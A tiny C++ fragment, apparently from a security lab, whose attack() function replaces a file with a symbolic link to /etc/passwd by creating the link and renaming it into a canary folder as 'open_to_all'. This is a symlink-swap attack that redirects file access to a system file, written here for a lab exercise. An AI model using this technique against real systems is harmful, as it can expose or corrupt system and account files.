// Puts a link in the place of a file.
#include "rest_of_the_lab.hpp"

bool attack() {
  return ::symlink("/etc/passwd", "new") == 0 && ::rename("new", "CANARY_FOLDER/open_to_all") == 0;
}
